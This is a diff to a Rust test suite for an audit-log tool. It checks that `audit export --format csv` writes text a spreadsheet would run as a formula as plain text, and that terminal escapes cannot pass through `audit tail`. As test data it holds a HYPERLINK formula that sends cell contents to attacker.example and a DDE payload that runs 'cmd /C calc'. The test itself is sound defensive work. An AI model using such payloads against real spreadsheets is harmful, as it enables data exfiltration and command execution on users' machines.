@@ -769,8 +769,9 @@ async fn an_old_sqlite_store_is_upgraded_with_its_chain() {
 }
 
 /// Text a caller chooses (a tool name, SQL) can neither forge lines nor send terminal escape
-/// sequences through `audit tail`, and a huge tool name or statement is kept cut short (a
-/// flood of them cannot fill the store's disk); the chain still verifies.
+/// sequences through `audit tail`, nor formulas through `audit export --format csv` (a cell a
+/// spreadsheet would run is written as text), and a huge tool name or statement is kept cut
+/// short (a flood of them cannot fill the store's disk); the chain still verifies.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn caller_text_is_escaped_in_tail_and_bounded_in_the_store() {
     let dir = tempfile::tempdir().expect("tempdir");
@@ -787,6 +788,12 @@ async fn caller_text_is_escaped_in_tail_and_bounded_in_the_store() {
         json!({"sql": "SELECT '\u{1b}]0;pwned\u{7}' AS x"}),
     )
     .await;
+    assert!(error_code(&r).is_some(), "{}", text(&r));
+    // Text a spreadsheet would run as a formula, in a tool name and in SQL.
+    let formula_tool = "=HYPERLINK(\"http://attacker.example/\"&A1,\"open\")";
+    assert!(try_call(&client, formula_tool, json!({})).await.is_err());
+    let formula_sql = "@SUM(1+1)*cmd|' /C calc'!A0";
+    let r = call(&client, "query", json!({ "sql": formula_sql })).await;
     assert!(error_code(&r).is_some(), "{}", text(&r));
     let huge_tool = "t".repeat(1 << 20);
     assert!(try_call(&client, &huge_tool, json!({})).await.is_err());
@@ -813,7 +820,34 @@ async fn caller_text_is_escaped_in_tail_and_bounded_in_the_store() {
             .any(|l| l.starts_with("2026-12-01T00:00:09.999Z")),
         "{out}"
     );
+    // CSV: the formulas are text (a leading apostrophe); JSONL keeps them exactly.
+    let (ok, out, err) = cli(&cfg, &["audit", "export", "--format", "csv"], &[]);
+    assert!(ok, "{err}");
+    let mut csv = csv::Reader::from_reader(out.as_bytes());
+    let header = csv.headers().expect("header").clone();
+    let column = |name: &str| header.iter().position(|h| h == name).expect(name);
+    let (tool, sql) = (column("tool"), column("sql"));
+    let rows: Vec<csv::StringRecord> = csv.records().map(|r| r.expect("a CSV row")).collect();
+    assert!(rows.len() >= 5, "{out}");
+    assert!(
+        rows.iter().any(|r| r[tool] == format!("'{formula_tool}")),
+        "{out}"
+    );
+    assert!(
+        rows.iter().any(|r| r[sql] == format!("'{formula_sql}")),
+        "{out}"
+    );
+    for r in &rows {
+        for cell in r.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell a spreadsheet would run: {cell:?}"
+            );
+        }
+    }
     let records = export(&cfg);
+    assert!(records.iter().any(|r| r["tool"] == formula_tool));
+    assert!(records.iter().any(|r| r["sql"] == formula_sql));
     let long_tool = find(
         &records,
         |r| r["tool"].as_str().is_some_and(|t| t.starts_with("tttt")),
